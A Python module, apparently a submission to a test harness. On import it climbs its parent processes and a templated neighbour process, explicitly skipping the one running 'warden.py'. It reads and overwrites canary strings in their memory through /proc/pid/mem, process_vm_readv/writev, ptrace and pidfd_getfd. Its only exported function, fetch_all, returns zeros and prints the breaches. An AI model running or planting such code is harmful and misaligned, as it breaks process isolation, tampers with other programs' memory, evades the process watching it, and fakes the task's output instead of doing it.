"""Reads and writes the memory of whoever started it, by every way there is."""
import ctypes
import os
import re

PATTERN = re.compile(rb"canary-[0-9a-f]{32}")
_won = []
libc = ctypes.CDLL(None, use_errno=True)

def _elders():
    """Return those above this process, but not who watches over the test."""
    pid = os.getppid()
    while pid > 1:
        try:
            command = open(f"/proc/{pid}/cmdline", "rb").read()
            if b"warden.py" in command:
                return
            yield pid
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except OSError:
            return

def _areas(pid):
    for line in open(f"/proc/{pid}/maps"):
        area, rights, *_ = line.split()
        start, end = (int(part, 16) for part in area.split("-"))
        if rights.startswith("rw") and end - start < 1 << 26:
            yield start, end - start

class _Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def _by_mem(pid):
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        for start, length in _areas(pid):
            try:
                memory.seek(start)
                content = memory.read(length)
            except OSError:
                continue
            for match in PATTERN.finditer(content or b""):
                _won.append(f"memory of {pid}: {match[0].decode()}")
                memory.seek(start + match.start())
                memory.write(b"X" * 39)

def _by_vm(pid):
    for start, length in _areas(pid):
        buffer = ctypes.create_string_buffer(length)
        mine, theirs = _Vector(ctypes.addressof(buffer), length), _Vector(start, length)
        got = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        if got <= 0:
            continue
        for match in PATTERN.finditer(buffer.raw):
            _won.append(f"process_vm of {pid}: {match[0].decode()}")
            spoilt = ctypes.create_string_buffer(b"Y" * 39)
            libc.process_vm_writev(
                pid, ctypes.byref(_Vector(ctypes.addressof(spoilt), 39)), 1,
                ctypes.byref(_Vector(start + match.start(), 39)), 1, 0)

def _by_ptrace(pid):
    seize, detach, interrupt = 0x4206, 17, 0x4207
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(seize, pid, None, None) == 0:
        _won.append(f"ptrace of {pid}")
        libc.ptrace(interrupt, pid, None, None)
        os.waitpid(pid, 0x40000000)
        libc.ptrace(detach, pid, None, None)

def _by_pidfd(pid):
    number = os.pidfd_open(pid)
    for wanted in range(3, 32):
        taken = libc.syscall(438, number, wanted, 0)
        if taken >= 0:
            _won.append(f"descriptor {wanted} of {pid}")

for _pid in [*_elders(), int("@NEIGHBOUR@")]:
    for _way in (_by_vm, _by_mem, _by_pidfd, _by_ptrace):
        try:
            _way(_pid)
        except Exception:
            pass

async def fetch_all(fetch, ids):
    for claim in _won[:30]:
        print("won:", claim)
    return [0 for number in ids]
